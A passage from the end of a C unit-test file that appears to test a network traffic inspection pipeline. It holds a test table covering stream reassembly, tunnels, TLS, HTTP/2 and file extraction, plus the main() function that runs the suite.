        give(&s, TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
        mem_fail_at(0, 0);
        end(&s);
    }
}

static CU_TestInfo tests[] = {
    {"what_reads_a_flow_goes_when_both_directions_ended",
     what_reads_a_flow_goes_when_both_directions_ended},
    {"a_finding_is_made_when_its_field_is_complete", a_finding_is_made_when_its_field_is_complete},
    {"what_waits_for_its_end_is_judged_before_its_packet_goes_on",
     what_waits_for_its_end_is_judged_before_its_packet_goes_on},
    {"a_mail_that_waits_for_no_reply_is_judged_before_it_goes_on",
     a_mail_that_waits_for_no_reply_is_judged_before_it_goes_on},
    {"an_alert_waits_for_the_answer_but_not_for_ever",
     an_alert_waits_for_the_answer_but_not_for_ever},
    {"a_body_in_pieces_is_looked_at_as_one", a_body_in_pieces_is_looked_at_as_one},
    {"bytes_around_a_gap_are_never_joined", bytes_around_a_gap_are_never_joined},
    {"after_a_gap_the_next_request_is_found", after_a_gap_the_next_request_is_found},
    {"both_readings_of_an_overlap_are_looked_at", both_readings_of_an_overlap_are_looked_at},
    {"what_both_readings_hold_is_told_once", what_both_readings_hold_is_told_once},
    {"two_lengths_are_read_both_ways", two_lengths_are_read_both_ways},
    {"sightings_tell_the_flow_and_the_attempt", sightings_tell_the_flow_and_the_attempt},
    {"tls_is_told_and_passed_over", tls_is_told_and_passed_over},
    {"rules_ask_for_anomalies", rules_ask_for_anomalies},
    {"rules_see_the_hellos_of_tls", rules_see_the_hellos_of_tls},
    {"an_unknown_protocol_hides_nothing", an_unknown_protocol_hides_nothing},
    {"the_contents_decide_who_is_the_server", the_contents_decide_who_is_the_server},
    {"a_first_line_in_single_bytes_is_still_recognised",
     a_first_line_in_single_bytes_is_still_recognised},
    {"what_a_tunnel_carries_is_decoded", what_a_tunnel_carries_is_decoded},
    {"what_is_held_at_the_end_is_handed_over", what_is_held_at_the_end_is_handed_over},
    {"other_readings_go_on_behind_a_hand_over", other_readings_go_on_behind_a_hand_over},
    {"a_proxy_header_is_passed_and_its_client_told", a_proxy_header_is_passed_and_its_client_told},
    {"an_upgrade_to_http2_is_followed", an_upgrade_to_http2_is_followed},
    {"a_preface_of_http2_in_pieces_is_no_request", a_preface_of_http2_in_pieces_is_no_request},
    {"uploads_and_attachments_are_files", uploads_and_attachments_are_files},
    {"delivered_java_code_is_a_file", delivered_java_code_is_a_file},
    {"urls_in_the_text_of_a_mail_are_listed", urls_in_the_text_of_a_mail_are_listed},
    {"tunnels_in_tunnels_hide_nothing", tunnels_in_tunnels_hide_nothing},
    {"a_gap_in_a_tunnel_is_told_to_what_is_inside", a_gap_in_a_tunnel_is_told_to_what_is_inside},
    {"an_empty_heap_costs_events_only", an_empty_heap_costs_events_only},
    CU_TEST_INFO_NULL,
};

int main(void)
{
    CU_SuiteInfo suites[] = {{"pipeline", NULL, NULL, NULL, NULL, tests}, CU_SUITE_INFO_NULL};
    int code = run_suites(suites);
    engine_unref(&engines[0]);
    engine_unref(&engines[1]);
    engine_unref(&engines[2]);
    return code;
}
